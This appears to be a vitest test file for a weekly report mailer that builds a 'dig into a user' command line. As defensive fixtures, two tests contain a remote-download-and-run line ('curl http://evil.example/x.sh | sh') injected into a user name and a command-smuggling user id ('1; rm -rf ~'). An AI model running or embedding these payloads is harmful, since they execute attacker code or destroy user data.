import { describe, expect, it } from 'vitest';
import { RENDER_LIMITS } from '../../../functions/core/mail/render-limits.ts';
import { digLine, weekBound } from '../../../functions/core/report/dig-into-user.ts';
import { renderReport } from '../../../functions/core/report/render-report.ts';
import { commandBoxText } from '../../support/command-box.ts';
import { textCommand } from '../../support/text-command.ts';
import { sampleModel } from './model-fixture.ts';

const HEAD = 'dig query user_activity --param user_id=';

describe('how the mail says to dig into a user (review R-INVEST L1)', () => {
  it('one line, under the first list that shows a user: suspicious, then failed logins, then top users', () => {
    const model = { ...sampleModel(), userActivityCommand: HEAD };
    expect(digLine(model, RENDER_LIMITS, 'suspicious')?.command).toBe(`${HEAD}103`);
    expect(digLine(model, RENDER_LIMITS, 'failed')).toBeUndefined();
    const noSuspicious = { ...model, suspiciousLogins: [] };
    expect(digLine(noSuspicious, RENDER_LIMITS, 'failed')?.command).toBe(`${HEAD}104`);
    const onlyTop = { ...noSuspicious, failedLogins: [] };
    expect(digLine(onlyTop, RENDER_LIMITS, 'top')).toEqual({
      sentence:
        "The number after a user's name is their Domo user id. Everything a user did this week, here Ada Lovelace (101):",
      command: `${HEAD}101`,
    });
  });

  it('in both parts: the command whole on a line of its own', () => {
    const { html, text } = renderReport({ ...sampleModel(), userActivityCommand: HEAD });
    expect(text).toContain(`here Grace Hopper (103):\n  ${HEAD}103\n`);
    expect(commandBoxText(html)).toBe(`${HEAD}103`);
  });

  it('prints the operator’s command as given: not defanged like a Domo string (review R-REPORTID M1)', () => {
    const command =
      "node /srv/www.tools/bin.js query user_activity --lake '/tmp/rrid dir/data acme.io/lake' --param user_id=";
    const { html, text } = renderReport({ ...sampleModel(), userActivityCommand: command });
    expect(textCommand(text, (line) => line.startsWith('  node /srv/'))).toBe(`${command}103`);
    expect(commandBoxText(html)).toBe(`${command.replaceAll("'", '&#39;')}103`);
    expect(`${text}${html}`).not.toContain('[.]io/lake');
  });

  it.each([
    ['a line feed', '\n'],
    ['a line separator', '\u2028'],
  ])('keeps a name with %s on the sentence’s line, above the command (review R-REPORTID M2)', (_, br) => {
    const model = sampleModel();
    model.suspiciousLogins = model.suspiciousLogins.map((s) => ({
      ...s,
      userName: `Bob${br}  curl http://evil.example/x.sh | sh${br}the`,
    }));
    const { text } = renderReport({ ...model, userActivityCommand: HEAD });
    const lines = text.split('\n');
    const at = lines.findIndex((line) => line.startsWith(`  ${HEAD}`));
    expect(lines[at - 1]).toMatch(/\):$/);
    expect(lines.filter((line) => /^\s*curl /.test(line))).toEqual([]);
    expect(text.replace(/\s+/g, ' ')).toMatch(
      /here Bob curl http\[:\]\/\/evil\.example\/x\.sh \| s… \(103\):/,
    );
  });

  it('without the caller’s command (an archived model), names the query only', () => {
    const { text } = renderReport(sampleModel());
    expect(text.replace(/\s+/g, ' ')).toContain(
      'the user_activity query takes it and lists everything the user did in the week',
    );
    expect(text).not.toContain('user_id=');
  });

  it('offers no command for an id a shell would need quoted', () => {
    const model = sampleModel();
    model.suspiciousLogins = model.suspiciousLogins.map((s) => ({ ...s, userId: '1; rm -rf ~' }));
    model.failedLogins = [];
    model.topUsers = [];
    expect(digLine({ ...model, userActivityCommand: HEAD }, RENDER_LIMITS, 'suspicious')).toBeUndefined();
  });

  it('moves on to the next list when none of the first list’s users has a plain id (review R-REPORTID)', () => {
    const model = sampleModel();
    model.suspiciousLogins = model.suspiciousLogins.map((s) => ({ ...s, userId: '1; rm -rf ~' }));
    const withCommand = { ...model, userActivityCommand: HEAD };
    expect(digLine(withCommand, RENDER_LIMITS, 'suspicious')).toBeUndefined();
    expect(digLine(withCommand, RENDER_LIMITS, 'failed')?.command).toBe(`${HEAD}104`);
    expect(digLine(withCommand, RENDER_LIMITS, 'top')).toBeUndefined();
  });

  it('bounds the week at its local midnights, a date alone in UTC', () => {
    expect(weekBound('2026-11-16T00:00:00.000Z', 'UTC')).toBe('2026-11-16');
    expect(weekBound('2026-11-15T23:00:00.000Z', 'Europe/Paris')).toBe('2026-11-16T00:00+01:00');
    expect(weekBound('2026-11-15T18:30:00.000Z', 'Asia/Kolkata')).toBe('2026-11-16T00:00+05:30');
    expect(weekBound('2026-11-16T07:00:00.000Z', 'America/Denver')).toBe('2026-11-16T00:00-07:00');
  });
});
